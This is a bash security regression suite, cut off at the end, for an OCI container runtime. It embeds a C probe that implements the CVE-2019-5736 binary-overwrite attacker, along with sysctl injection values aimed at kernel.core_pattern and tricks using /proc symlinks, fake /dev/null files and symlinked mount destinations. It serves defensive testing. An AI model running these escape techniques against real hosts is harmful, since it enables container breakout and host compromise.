#!/usr/bin/env bash
# Security regressions for the runtime under test ($MOOR_RUNTIME), from
# /work/shared/security.md. Every case is built to FAIL on a runtime that has the
# vulnerability; the comment above each case says how. Run it against Debian's runc
# (MOOR_RUNTIME=/usr/sbin/runc) to see which of these runc 1.1.5 itself still has.
#
# A small static C probe (source below, built with gcc -static at start) runs inside the
# containers: `fds` lists open fds, `exe-attack` is the CVE-2019-5736 attacker, `syscalls`
# reports what seccomp lets through.
source "$(dirname "$0")/lib.sh"

command -v gcc >/dev/null || { say "$T_NAME: gcc is needed to build the probe (apt-get install gcc)"; exit 1; }

PROBE=$T_TMP/probe
cat >"$T_TMP/probe.c" <<'PROBE_EOF'
/* Probe for security_test.sh: runs inside containers (built static by security_test.sh). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char* ename(int e) {
  const char* n = strerrorname_np(e);
  return n ? n : "E?";
}

/* fds: one line "FD -> TARGET" per open fd, except the directory fd used to list them. */
static int cmd_fds(void) {
  DIR* d = opendir("/proc/self/fd");
  if (!d) { printf("opendir-failed %s\n", ename(errno)); return 1; }
  struct dirent* e;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    int fd = atoi(e->d_name);
    if (fd == dirfd(d)) continue;
    char p[64], t[4096];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(p, t, sizeof t - 1);
    t[n < 0 ? 0 : n] = 0;
    printf("%d -> %s\n", fd, t);
  }
  closedir(d);
  return 0;
}

/* exe-attack STOPFILE WRITE_PREFIX SECONDS: the CVE-2019-5736 attacker. Keeps an O_RDONLY
 * fd to the executable of every process in the container whose binary is not the probe
 * or busybox (that is: the runtime, when it runs inside), then tries to reopen that file
 * for writing through /proc/self/fd, while it runs and after it has gone. Writes a marker
 * only into files under WRITE_PREFIX (the test's copy of the runtime) or into memfds. */
struct kept { int fd; dev_t dev; ino_t ino; char target[512]; int opened_w; int wrote; int last_err; };
static struct kept kept[64];
static int nkept;

static void try_write(struct kept* k, const char* phase, const char* prefix) {
  if (k->opened_w) return;
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", k->fd);
  int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (w < 0) {
    if (errno != k->last_err) printf("DENIED %s errno=%s phase=%s\n", k->target, ename(errno), phase);
    k->last_err = errno;
    return;
  }
  k->opened_w = 1;
  printf("OPENED-FOR-WRITE %s phase=%s\n", k->target, phase);
  if (strncmp(k->target, "/memfd:", 7) == 0 || (prefix[0] && strncmp(k->target, prefix, strlen(prefix)) == 0)) {
    static const char mark[] = "MOOR-5736-PWNED\n";
    if (write(w, mark, sizeof mark - 1) == (ssize_t)(sizeof mark - 1)) {
      k->wrote = 1;
      printf("WROTE %s\n", k->target);
    } else {
      printf("WRITE-FAILED %s errno=%s\n", k->target, ename(errno));
    }
  }
  close(w);
}

static int cmd_exe_attack(const char* stopfile, const char* prefix, int seconds) {
  struct stat self, bb;
  if (stat("/proc/self/exe", &self) != 0) return 1;
  if (stat("/bin/busybox", &bb) != 0) memset(&bb, 0, sizeof bb);
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("ATTACKER-READY pid=%d\n", getpid());
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  pid_t me = getpid();
  for (;;) {
    DIR* d = opendir("/proc");
    struct dirent* e;
    while (d && (e = readdir(d))) {
      pid_t pid = atoi(e->d_name);
      if (pid <= 0 || pid == me) continue;
      char p[64];
      snprintf(p, sizeof p, "/proc/%d/exe", pid);
      int fd = open(p, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      struct stat st;
      int known = fstat(fd, &st) != 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                  (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino);
      for (int i = 0; !known && i < nkept; ++i) known = kept[i].dev == st.st_dev && kept[i].ino == st.st_ino;
      if (known || nkept == 64) { close(fd); continue; }
      struct kept* k = &kept[nkept++];
      memset(k, 0, sizeof *k);
      k->fd = fd; k->dev = st.st_dev; k->ino = st.st_ino;
      ssize_t n = readlink(p, k->target, sizeof k->target - 1);
      k->target[n < 0 ? 0 : n] = 0;
      printf("CAUGHT pid=%d exe=%s\n", pid, k->target);
      try_write(k, "while-running", prefix);
    }
    if (d) closedir(d);
    for (int i = 0; i < nkept; ++i) try_write(&kept[i], "later", prefix);
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (access(stopfile, F_OK) == 0 || now.tv_sec - start.tv_sec >= seconds) break;
    sched_yield(); /* scan flat out: a runtime process may live for a millisecond */
  }
  for (int i = 0; i < nkept; ++i) try_write(&kept[i], "final", prefix);
  int w = 0, o = 0;
  for (int i = 0; i < nkept; ++i) { w += kept[i].wrote; o += kept[i].opened_w; }
  printf("RESULT caught=%d opened-for-write=%d wrote=%d\n", nkept, o, w);
  return 0;
}

/* syscalls: what the seccomp profile (and capabilities) let through, one line each:
 * NAME=OK or NAME=<errno name>. Nothing here changes the host: every namespace made is
 * the probe's own and dies with it; mount targets a tmpfs on /mnt inside the container. */
static void report(const char* name, long r) { printf("%s=%s\n", name, r < 0 ? ename(errno) : "OK"); }
static int cmd_syscalls(void) {
  report("clone3", syscall(SYS_clone3, NULL, 0));
  report("keyctl", syscall(SYS_keyctl, 0 /*KEYCTL_GET_KEYRING_ID*/, -3 /*session*/, 0));
  report("bpf", syscall(SYS_bpf, 5 /*BPF_PROG_LOAD*/, NULL, 0));
  report("io_uring_setup", syscall(SYS_io_uring_setup, 1, NULL));
  report("setns", setns(-1, CLONE_NEWNET));
  pid_t c = (pid_t)syscall(SYS_clone, CLONE_NEWUTS | SIGCHLD, 0, 0, 0, 0);
  if (c == 0) _exit(0);
  if (c > 0) waitpid(c, NULL, 0);
  report("clone-newuts", c);
  /* unshare first: when it works, the mount below lands in the probe's own private
   * mount namespace; when it does not, in the container's. */
  long u = unshare(CLONE_NEWNS);
  report("unshare-mnt", u);
  if (u == 0) mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
  report("mount", mount("none", "/mnt", "tmpfs", 0, NULL));
  return 0;
}

int main(int argc, char** argv) {
  if (argc >= 2 && strcmp(argv[1], "fds") == 0) return cmd_fds();
  if (argc >= 5 && strcmp(argv[1], "exe-attack") == 0) return cmd_exe_attack(argv[2], argv[3], atoi(argv[4]));
  if (argc >= 2 && strcmp(argv[1], "syscalls") == 0) return cmd_syscalls();
  fprintf(stderr, "usage: probe fds | exe-attack STOPFILE WRITE_PREFIX SECONDS | syscalls\n");
  return 2;
}
PROBE_EOF
gcc -static -O2 -Wall -Wextra -Werror -o "$PROBE" "$T_TMP/probe.c" 2>"$T_TMP/probe.err" ||
  die "building the probe failed: $(cat "$T_TMP/probe.err")"

# refusal MSG: after `capture`, passes when the runtime refused with an error (exit
# 1..125) and fails when it crashed (killed by a signal: exit > 128) or timed out.
# Returns 0 when it was a refusal, 1 when the command succeeded.
refusal() {
  if [[ $RC == 0 ]]; then return 1; fi
  if ((RC > 125)); then
    fail "$1: the runtime crashed or hung (exit $RC: $(_clip "$ERR"))"
  else
    pass "$1: refused (exit $RC: $(_clip "$ERR"))"
  fi
  return 0
}

# probe_bundle ID [JQ_FILTER [JQ_ARGS...]]: make_bundle with the probe copied to /probe.
probe_bundle() {
  local b
  b=$(make_bundle "$@") || return 1
  cp "$PROBE" "$b/rootfs/probe"
  printf '%s\n' "$b"
}

# A Docker-like process: Docker's 14 capabilities as bounding/effective/permitted, no
# inheritable, no ambient.
DOCKER_LIKE='.process.capabilities = {bounding: $caps, effective: $caps, permitted: $caps}'
DOCKER_CAPEFF=00000000a80425fb

# The CVE-2019-5736 cases run a copy of the runtime binary (under $T_TMP), so that a
# vulnerable runtime lets the probe overwrite the copy, never the build's binary.
RT_COPY=$T_TMP/rtbin/$(basename "$MOOR_RUNTIME")
mkdir -p "$T_TMP/rtbin"
cp "$MOOR_RUNTIME" "$RT_COPY"
RT_SHA=$(sha256sum <"$RT_COPY")

# attack_verdict FILE [NOT_SEEN_NOTE]: the assertions shared by the CVE-2019-5736 cases
# on the probe's report in FILE. The attacker must have seen a runtime process inside
# the container, unless NOT_SEEN_NOTE is given: then not seeing one passes, with the note.
attack_verdict() {
  local out
  out=$(cat "$1")
  assert_contains "$out" "RESULT " "the attacker finished and reported"
  local caught
  caught=$(sed -n 's/^CAUGHT pid=[0-9]* exe=//p' "$1" | sort -u)
  if [[ -n "$caught" ]]; then
    pass "the attacker held the runtime's executable: $(tr '\n' ' ' <<<"$caught")"
  elif [[ -n "${2:-}" ]]; then
    pass "no runtime process was seen inside the container: $2"
  else
    fail "the attacker never saw a runtime process inside the container, so nothing was tested: $(_clip "$out")"
  fi
  assert_not_contains "$out" "WROTE " "the attacker could not write to the runtime's executable"
  # A writable open of a real file is the vulnerability even without a write; a memfd
  # opened for writing must refuse the write (sealed), which WROTE above covers.
  local opened
  opened=$(sed -n 's/^OPENED-FOR-WRITE //p' "$1" | grep -v '^/memfd:')
  assert_eq "" "$opened" "no file behind the runtime's executable could be opened for writing"
  assert_eq "$RT_SHA" "$(sha256sum <"$RT_COPY")" "the runtime binary on the host is unchanged (sha256)"
}

# CVE-2019-5736, the created-state variant. Between create and start the container's
# pid 1 is the runtime's own init process. A process exec'd into the container (exec -d,
# so that no runtime process stays behind on the host) holds /proc/1/exe open read-only
# and, once start has replaced pid 1 with the program, reopens it for writing through
# /proc/self/fd. On a runtime that runs its init from the binary on disk (not a sealed
# memfd or a read-only mount), that reopen gives write access to the host's runtime
# binary: the probe appends a marker and the sha256 changes.
t_5736_created_exec() {
  local id b
  id=$(new_id exe)
  b=$(probe_bundle "$id" "$DOCKER_LIKE"' | .process.args=["sleep","100000"]' --argjson caps "$DOCKER_CAPS") || exit 1
  rt_with "$RT_COPY" create --bundle "$b" "$id" </dev/null >"$T_TMP/$id.out" 2>"$T_TMP/$id.err" ||
    die "create failed: $(cat "$T_TMP/$id.err")"
  # exec -d hands the container process our stdio: its report lands in attack.out.
  rt_with "$RT_COPY" exec -d "$id" /probe exe-attack /tmp/stop "$T_TMP" 60 </dev/null >"$T_TMP/attack.out" 2>"$T_TMP/attack.err"
  local rc=$?
  if [[ $rc != 0 ]]; then
    local err
    err=$(cat "$T_TMP/attack.err")
    # A runtime may refuse exec before start; then this variant cannot run.
    if [[ "$err" =~ created|not\ running|state ]]; then
      skip "the runtime refuses exec into a created container: $(_clip "$err")"
    fi
    die "exec of the attacker failed (exit $rc): $err"
  fi
  wait_for 20 "attacker caught pid 1's executable" file_has "$T_TMP/attack.out" CAUGHT
  rt_with "$RT_COPY" start "$id" </dev/null >/dev/null 2>"$T_TMP/start.err" || fail "start: $(cat "$T_TMP/start.err")"
  local pid
  pid=$(state_field "$id" .pid "$RT_COPY")
  wait_for 10 "pid 1 is the program (sleep)" grep -qx sleep "/proc/$pid/comm"
  touch "$b/rootfs/tmp/stop"
  wait_for 30 "attacker reports" file_has "$T_TMP/attack.out" RESULT
  say "  attacker: $(tr '\n' ';' <"$T_TMP/attack.out")"
  attack_verdict "$T_TMP/attack.out"
}

# full_fifo PATH: makes PATH a fifo whose pipe buffer is full, and keeps a read end open
# on fd 6 (so that writers can open it). A process that writes to it blocks until
# drain_fifo empties it.
full_fifo() {
  mkfifo "$1"
  exec 6<>"$1"
  /usr/bin/python3 -c '
import os, sys
fd = os.open(sys.argv[1], os.O_WRONLY | os.O_NONBLOCK)
try:
    while True:
        os.write(fd, b"x" * 4096)
except BlockingIOError:
    pass
' "$1"
}
# drain_fifo PATH OUT: empties the fifo into OUT (in the background) until every writer
# has closed it.
drain_fifo() { timeout 60 cat "$1" >"$2" 6<&- & }

# CVE-2019-5736, the original variant. The container's pid 1 is the attacker; the host
# runs `exec /selfexe`, a script whose interpreter is #!/proc/self/exe. The runtime's
# process that execs it inside the container therefore runs the runtime's executable
# again, inside the container. Its stdout and stderr are a fifo with a full buffer, so
# that copy of the runtime blocks on its first message and the attacker has time to grab
# /proc/<pid>/exe; once the fifo is drained and the runtime is gone, the attacker
# reopens the executable for writing. A runtime whose executable is the host file (not a
# sealed memfd or a read-only mount) lets the write through.
t_5736_shebang_exec() {
  local id b xpid
  id=$(new_id shebang)
  b=$(probe_bundle "$id" "$DOCKER_LIKE"' | .process.args=["/probe","exe-attack","/tmp/stop",$prefix,"60"]' \
    --argjson caps "$DOCKER_CAPS" --arg prefix "$T_TMP") || exit 1
  printf '#!/proc/self/exe\n' >"$b/rootfs/selfexe"
  chmod 755 "$b/rootfs/selfexe"
  create_started "$id" "$b" "$RT_COPY"
  wait_for 20 "attacker ready" file_has "$T_TMP/$id.out" ATTACKER-READY || exit 1
  full_fifo "$T_TMP/full"
  rt_with "$RT_COPY" exec "$id" /selfexe </dev/null >"$T_TMP/full" 2>&1 &
  xpid=$!
  track_pid "$xpid"
  # A runtime that really runs its executable as the script's interpreter blocks on its
  # first message, so the attacker sees it; give that a generous deadline without
  # failing when it does not happen (the runtime may refuse to run the script at all).
  local deadline=$((${EPOCHREALTIME/./} + 10000000))
  until grep -q CAUGHT "$T_TMP/$id.out" || ((${EPOCHREALTIME/./} > deadline)); do sleep 0.05; done
  drain_fifo "$T_TMP/full" "$T_TMP/full.out"
  exec 6<&-
  wait_for 30 "exec finished" bash -c "! kill -0 $xpid 2>/dev/null"
  local said
  said=$(sed -E '1s/^x+//' "$T_TMP/full.out" | tr '\n' ' ')
  touch "$b/rootfs/tmp/stop"
  wait_for 30 "attacker reports" file_has "$T_TMP/$id.out" RESULT
  say "  attacker: $(tr '\n' ';' <"$T_TMP/$id.out")"
  say "  exec of /selfexe said: $said"
  attack_verdict "$T_TMP/$id.out" "exec of the #!/proc/self/exe script said: $said"
}

# fds_of OUTPUT: the fd numbers in the probe's `fds` listing, space-separated.
fds_of() { awk '{print $1}' <<<"$1" | sort -n | tr '\n' ' ' | sed 's/ $//'; }

# CVE-2024-21626: fds the runtime holds (its state dir, the host's cgroup directory, log
# files, sockets) or inherits from its caller must not reach the container. The runtime
# is started here with extra fds 7, 8 and 9 open without O_CLOEXEC (a directory on the
# host among them); a leaky runtime shows them, or its own, in the container's fd table.
t_21626_no_leaked_fds() {
  local id b
  id=$(new_id fds)
  b=$(probe_bundle "$id" '.process.args=["/probe","fds"]') || exit 1
  exec 7<"$b/config.json" 8>>"$T_TMP/leak-target" 9<"$T_TMP"
  capture rt run --bundle "$b" "$id"
  exec 7<&- 8>&- 9<&-
  assert_eq 0 "$RC" "run exits 0 (stderr: $(_clip "$ERR"))"
  assert_eq "0 1 2" "$(fds_of "$OUT")" "the container process has only fds 0, 1, 2: $(tr '\n' ';' <<<"$OUT")"
  assert_not_contains "$(grep -v '^[012] ' <<<"$OUT")" "$T_TMP" "no fd above 2 points into the host's test dir"
  rt delete --force "$id" >/dev/null 2>&1 || true

  # --preserve-fds 1 passes exactly fd 3, and nothing above it.
  id=$(new_id fds)
  b=$(probe_bundle "$id" '.process.args=["/probe","fds"]') || exit 1
  echo preserved >"$T_TMP/fd3.txt"
  exec 7<"$b/config.json"
  capture rt run --preserve-fds 1 --bundle "$b" "$id" 3<"$T_TMP/fd3.txt"
  exec 7<&-
  assert_eq 0 "$RC" "run --preserve-fds 1 exits 0 (stderr: $(_clip "$ERR"))"
  assert_eq "0 1 2 3" "$(fds_of "$OUT")" "with --preserve-fds 1 the fds are 0..3: $(tr '\n' ';' <<<"$OUT")"
  assert_contains "$OUT" "3 -> $T_TMP/fd3.txt" "fd 3 is the file passed"
}

# The same for a process entering a running container with `exec`.
t_21626_exec_no_leaked_fds() {
  local id b
  id=$(new_id xfds)
  b=$(probe_bundle "$id" '.process.args=["sleep","100000"]') || exit 1
  create_started "$id" "$b"
  exec 7<"$b/config.json" 9<"$T_TMP"
  capture rt exec "$id" /probe fds
  exec 7<&- 9<&-
  assert_eq 0 "$RC" "exec exits 0 (stderr: $(_clip "$ERR"))"
  assert_eq "0 1 2" "$(fds_of "$OUT")" "the exec'd process has only fds 0, 1, 2: $(tr '\n' ';' <<<"$OUT")"
}

# CVE-2024-21626: process.cwd "/proc/self/fd/N" names one of the runtime's own fds while
# it sets up the container. runc before 1.1.12 leaked an fd of the host's
# /sys/fs/cgroup there, so the process started with its cwd outside the container's
# root. Each form is tried for N = 3..9: the path itself, /proc/thread-self/fd/N, and a
# symlink in the rootfs pointing to /proc/self/fd/N (which a check of the string alone
# misses). The runtime must refuse (at create, or at the latest at start), or the
# process must end up with a cwd inside the root: it records its cwd in /ran, and a cwd
# outside the root reads "(unreachable)/...".
t_21626_cwd_proc_self_fd() {
  local n form cwd id b created started
  for form in self thread-self symlink; do
    for n in 3 4 5 6 7 8 9; do
      id=$(new_id cwd)
      case $form in
        self) cwd=/proc/self/fd/$n ;;
        thread-self) cwd=/proc/thread-self/fd/$n ;;
        symlink) cwd=/cwdlink ;;
      esac
      b=$(make_bundle "$id" '.process.args=["sh","-c","readlink /proc/self/cwd > /ran"] | .process.cwd=$cwd' --arg cwd "$cwd") || exit 1
      [[ $form == symlink ]] && ln -s "/proc/self/fd/$n" "$b/rootfs/cwdlink"
      local what="cwd $cwd${form/#symlink/ -> /proc/self/fd/$n}"
      [[ $form != symlink ]] && what="cwd $cwd"
      capture rt create --bundle "$b" "$id"
      created=$RC
      started=""
      if [[ $created == 0 ]]; then
        capture rt start "$id"
        started=$RC
      fi
      if ((created > 125 || ${started:-0} > 125)); then
        fail "$what: the runtime crashed (create exit $created${started:+, start exit $started}: $(_clip "$ERR"))"
      elif [[ $created != 0 || $started != 0 ]]; then
        pass "$what refused (create exit $created${started:+, start exit $started}: $(_clip "$ERR"))"
      else
        # it ran: wait for its report, then its cwd must be inside the root
        if wait_for 10 "the process reports its cwd" test -s "$b/rootfs/ran"; then
          local got
          got=$(cat "$b/rootfs/ran")
          if [[ $got != *unreachable* && -d "$b/rootfs$got" ]]; then
            pass "$what: accepted, and the cwd is inside the root ($got)"
          else
            fail "$what: the process ran with its cwd outside the root: $got"
          fi
        fi
      fi
      rt delete --force "$id" >/dev/null 2>&1 || true
    done
  done
}

# The process's cwd is inside the container's root: a runtime that chdir()s before
# pivoting (or to a path resolved on the host) leaves it outside, where getcwd reports
# "(unreachable)" and `..` walks the host.
t_cwd_inside_root() {
  local id b
  id=$(new_id cwdok)
  b=$(make_bundle "$id" '.process.args=["sh","-c","pwd; readlink /proc/self/cwd; ls -a /proc/self/cwd/../../.. | tr \"\\n\" \" \"; echo; ls -a / | tr \"\\n\" \" \""] | .process.cwd="/home/tester"') || exit 1
  capture rt run --bundle "$b" "$id"
  assert_eq 0 "$RC" "run exits 0 (stderr: $(_clip "$ERR"))"
  local lines
  mapfile -t lines <<<"$OUT"
  assert_eq /home/tester "${lines[0]}" "pwd is the configured cwd"
  assert_eq /home/tester "${lines[1]}" "/proc/self/cwd resolves inside the root"
  assert_eq "${lines[3]}" "${lines[2]}" "cwd/../../.. is the container's / (not the host's)"
}

# Capabilities: with a Docker-like config (no inheritable, no ambient), CapInh and
# CapAmb must be 0 in the container. The runtime is started with inheritable
# NET_RAW+SYS_ADMIN and ambient NET_RAW (setpriv); inheritable caps survive execve, so
# a runtime that only sets bounding/effective/permitted passes them on (CVE-2022-24769).
t_capabilities_docker_like() {
  command -v setpriv >/dev/null || skip "setpriv (util-linux) is missing"
  local control
  control=$(setpriv --inh-caps +net_raw,+sys_admin --ambient-caps +net_raw grep -E '^Cap(Inh|Amb)' /proc/self/status)
  assert_not_contains "$control" "CapInh:	0000000000000000" "control: setpriv gives the runtime inheritable caps"
  local id b
  id=$(new_id caps)
  b=$(make_bundle "$id" "$DOCKER_LIKE"' | .process.noNewPrivileges=false | .process.args=["grep","^Cap","/proc/self/status"]' --argjson caps "$DOCKER_CAPS") || exit 1
  capture setpriv --inh-caps +net_raw,+sys_admin --ambient-caps +net_raw \
    timeout -k 5 60 "$MOOR_RUNTIME" --root "$(root_for "$MOOR_RUNTIME")" run --bundle "$b" "$id"
  assert_eq 0 "$RC" "run exits 0 (stderr: $(_clip "$ERR"))"
  assert_contains "$OUT" "CapInh:	0000000000000000" "CapInh is 0"
  assert_contains "$OUT" "CapAmb:	0000000000000000" "CapAmb is 0"
  assert_contains "$OUT" "CapEff:	$DOCKER_CAPEFF" "CapEff is Docker's 14 capabilities"
  assert_contains "$OUT" "CapBnd:	$DOCKER_CAPEFF" "CapBnd is Docker's 14 capabilities"
}

# sysctl injection (CVE-2022-0811). A runtime that writes any key it is given changes
# host-wide settings such as kernel.core_pattern from a container config; one that
# hands "k=v+k2=v2" strings to a helper that splits them (as cri-o's pinns did) sets a
# second, unchecked key. Each bad config must be refused, and the host's core_pattern
# stays as it was. The injected value is the host's current core_pattern, so even a
# vulnerable runtime leaves the host as it was.
t_sysctl_injection() {
  local before id b
  before=$(cat /proc/sys/kernel/core_pattern)
  local -a bad=(
    '{"kernel.core_pattern": "|/bin/false"}'
    "$(jq -cn --arg v "moor+kernel.core_pattern=$before" '{"kernel.domainname": $v}')"
    '{"kernel.domainname": "a=b"}'
    '{"kernel.domainname": "a+b"}'
    '{"net.ipv4.ip_forward": "1"}'
  )
  local -a why=(
    "a host-wide sysctl (kernel.core_pattern)"
    "a value with + and = (injection)"
    "a value with ="
    "a value with +"
    "a net.* sysctl without a network namespace"
  )
  local i
  for i in "${!bad[@]}"; do
    id=$(new_id sysctl)
    local filter='.linux.sysctl = $s'
    [[ ${why[$i]} == *"without a network namespace"* ]] && filter+=' | .linux.namespaces |= map(select(.type != "network"))'
    b=$(make_bundle "$id" "$filter" --argjson s "${bad[$i]}") || exit 1
    capture rt create --bundle "$b" "$id"
    refusal "${why[$i]}: ${bad[$i]}" || fail "accepted: ${why[$i]}: ${bad[$i]}"
    rt delete --force "$id" >/dev/null 2>&1 || true
  done
  assert_eq "$before" "$(cat /proc/sys/kernel/core_pattern)" "the host's kernel.core_pattern is unchanged"
  # control: a namespaced sysctl with a plain value is applied
  id=$(new_id sysctl)
  b=$(make_bundle "$id" '.linux.sysctl = {"kernel.domainname": "moor.test"} | .process.args=["cat","/proc/sys/kernel/domainname"]') || exit 1
  capture rt run --bundle "$b" "$id"
  assert_eq moor.test "$OUT" "control: kernel.domainname=moor.test is applied in the container (stderr: $(_clip "$ERR"))"
}

# Masked and read-only paths from the config. Unmasked, /proc/kcore, /proc/keys,
# /proc/timer_list ... are readable by root in the container and /sys/firmware lists
# the host's firmware tables; a writable /proc/sys or /proc/sysrq-trigger lets the
# container change or crash the host. Every masked path must read as empty, every
# read-only path must be a read-only mount, and opening the two writable-on-host files
# for writing must fail with EROFS. (The write probes only open the files; nothing is
# written, so even a vulnerable runtime does not touch the host.)
t_masked_and_readonly() {
  local id b masked ro
  id=$(new_id mask)
  b=$(make_bundle "$id" '.process.args=["sh","/check.sh"]') || exit 1
  masked=$(jq -r '.linux.maskedPaths[]' "$b/config.json" | tr '\n' ' ')
  ro=$(jq -r '.linux.readonlyPaths[]' "$b/config.json" | tr '\n' ' ')
  cat >"$b/rootfs/check.sh" <<EOF
for p in $masked; do
  if [ ! -e "\$p" ]; then echo "absent \$p"
  elif [ -d "\$p" ]; then echo "dir \$p \$(ls -A "\$p" | wc -l)"
  else echo "file \$p \$(head -c 4096 "\$p" 2>/dev/null | wc -c)"; fi
done
for p in $ro; do
  [ -e "\$p" ] || { echo "absent \$p"; continue; }
  echo "ro \$p \$(awk -v m="\$p" '\$5 == m { split(\$6, o, ","); f = o[1] } END { print f }' /proc/self/mountinfo)"
done
( : > /proc/sysrq-trigger ) 2>&1 | sed 's/^/sysrq: /'
( : > /proc/sys/kernel/ns_last_pid ) 2>&1 | sed 's/^/procsys: /'
EOF
  capture rt run --bundle "$b" "$id"
  assert_eq 0 "$RC" "run exits 0 (stderr: $(_clip "$ERR"))"
  local p line
  for p in $masked; do
    line=$(grep -E "^(absent|dir|file) $p( |\$)" <<<"$OUT")
    case "$line" in
      "absent $p") pass "masked $p does not exist here" ;;
      "dir $p 0" | "file $p 0") pass "masked $p is empty" ;;
      *) fail "masked $p is not masked: [$line]" ;;
    esac
  done
  # control: masked files that exist and have content on the host (which ones exist
  # depends on the kernel's configuration) were really hidden
  local shown=0
  for p in $masked; do
    if [[ -f $p && $(head -c 4096 "$p" 2>/dev/null | wc -c) != 0 ]]; then
      shown=$((shown + 1))
    fi
  done
  assert_ne 0 "$shown" "control: $shown masked files have content on the host"
  for p in $ro; do
    line=$(grep -E "^(absent|ro) $p( |\$)" <<<"$OUT")
    case "$line" in
      "absent $p") pass "read-only $p does not exist here" ;;
      "ro $p ro") pass "$p is a read-only mount" ;;
      *) fail "$p is not a read-only mount: [$line]" ;;
    esac
  done
  if [[ -e /proc/sysrq-trigger ]]; then
    assert_match "$(grep '^sysrq:' <<<"$OUT")" "Read-only file system" "opening /proc/sysrq-trigger for writing fails with EROFS"
  else
    say "  (this kernel has no /proc/sysrq-trigger: not checked)"
  fi
  assert_match "$(grep '^procsys:' <<<"$OUT")" "Read-only file system" "opening /proc/sys/... for writing fails with EROFS"
}

# A rootfs whose /proc is a symlink (CVE-2019-19921, CVE-2023-27561): a runtime that
# follows it mounts procfs wherever the link points (with a racing container, onto a
# directory of the attacker's choosing) and its later /proc writes (LSM labels,
# masked paths) go to the wrong place. Create must refuse; the program never runs.
t_proc_symlink() {
  local id b target
  for target in /tmp/fakeproc tmp/fakeproc /; do
    id=$(new_id procln)
    b=$(make_bundle "$id" '.process.args=["touch","/ran"]') || exit 1
    mkdir -p "$b/rootfs/tmp/fakeproc"
    rmdir "$b/rootfs/proc"
    ln -s "$target" "$b/rootfs/proc"
    capture rt run --bundle "$b" "$id"
    refusal "run with /proc -> $target" || fail "run with /proc -> $target was accepted"
    assert_false "the program did not run with /proc -> $target" test -e "$b/rootfs/ran"
    assert_eq "" "$(ls -A "$b/rootfs/tmp/fakeproc")" "nothing was created in the link's target"
    rt delete --force "$id" >/dev/null 2>&1 || true
  done
}

# Masking with a /dev/null that is not the device (CVE-2025-31133). A masked path is
# hidden by bind-mounting /dev/null over it. If the rootfs's /dev/null (no /dev tmpfs in
# this config) is a symlink or a regular file, a runtime that does not check it bind
# mounts that file instead: the "masked" file then shows the file's contents, and writes
# to it land in the file (with a racing symlink to /proc/sys/kernel/core_pattern, on the
# host). Here /dev/null is (1) an absolute symlink to a path that exists both on the host
# and inside the rootfs, (2) a regular file. The runtime must refuse, or mask with a real
# null device: the masked file reads empty and neither file changes.
t_dev_null_not_a_device() {
  local kind id b out
  for kind in symlink regular; do
    id=$(new_id devnull)
    b=$(make_bundle "$id" '
      .mounts |= map(select(.destination | startswith("/dev") | not))
      | .linux.maskedPaths += ["/masked-file"]
      | .process.args=["sh","-c","cat /masked-file; echo; echo PWNED >> /masked-file; echo done"]') || exit 1
    echo SECRET >"$b/rootfs/masked-file"
    mkdir -p "$T_TMP/hostside" "$b/rootfs$T_TMP/hostside"
    echo HOSTFILE >"$T_TMP/hostside/null-target"
    echo INSIDEFILE >"$b/rootfs$T_TMP/hostside/null-target"
    rm -f "$b/rootfs/dev/null"
    if [[ $kind == symlink ]]; then
      ln -s "$T_TMP/hostside/null-target" "$b/rootfs/dev/null"
    else
      echo NOTNULL >"$b/rootfs/dev/null"
    fi
    capture rt run --bundle "$b" "$id"
    out=$OUT
    if ! refusal "$kind /dev/null"; then
      # the process's output must reach us, or the checks below would pass on nothing
      assert_contains "$out" "done" "$kind /dev/null: the container's output arrived"
      assert_not_contains "$out" SECRET "$kind /dev/null: the masked file is masked"
      assert_not_contains "$out" HOSTFILE "$kind /dev/null: masking did not use the host file"
      assert_not_contains "$out" INSIDEFILE "$kind /dev/null: masking did not use the symlink's target"
      assert_not_contains "$out" NOTNULL "$kind /dev/null: masking did not use the regular file"
    fi
    assert_eq HOSTFILE "$(cat "$T_TMP/hostside/null-target")" "$kind /dev/null: the host file is unchanged"
    assert_eq INSIDEFILE "$(cat "$b/rootfs$T_TMP/hostside/null-target")" "$kind /dev/null: the rootfs file the link names is unchanged"
    if [[ $kind == regular ]]; then
      # the runtime may replace the file with the real device node (1:3); if the file
      # is still there, nothing may have been written to it
      if [[ -c $b/rootfs/dev/null && "$(stat -c %t:%T "$b/rootfs/dev/null")" == 1:3 ]]; then
        pass "regular /dev/null: the runtime replaced it with the null device"
      else
        assert_eq NOTNULL "$(cat "$b/rootfs/dev/null" 2>/dev/null)" "regular /dev/null: the file was not written through the mask"
      fi
    fi
    assert_eq SECRET "$(cat "$b/rootfs/masked-file")" "$kind /dev/null: the masked file itself is unchanged"
    rt delete --force "$id" >/dev/null 2>&1 || true
  done
}

# Mount destinations through symlinks (CVE-2021-30465 and siblings): the rootfs has
# /evil -> <host dir> (absolute) and /evil2 -> ../../../../<host dir> (relative), and the
# config mounts a tmpfs at /evil/x and binds a directory at /evil2/y. A runtime that
# resolves destinations on the host creates x and y in the host directory and mounts
# there. Resolved inside the root, both land under rootfs/<host dir>; the host directory
# stays empty.
t_mount_dest_through_symlink() {
  local id b host="$T_TMP/host-target"
  id=$(new_id mntln)
  mkdir -p "$host" "$T_TMP/bindsrc"
  echo from-bind >"$T_TMP/bindsrc/marker"
  b=$(make_bundle "$id" '
    .mounts += [{destination: "/evil/x", type: "tmpfs", source: "tmpfs", options: ["nosuid","nodev","size=1m"]},
                {destination: "/evil2/y", type: "bind", source: $src, options: ["rbind","ro"]}]
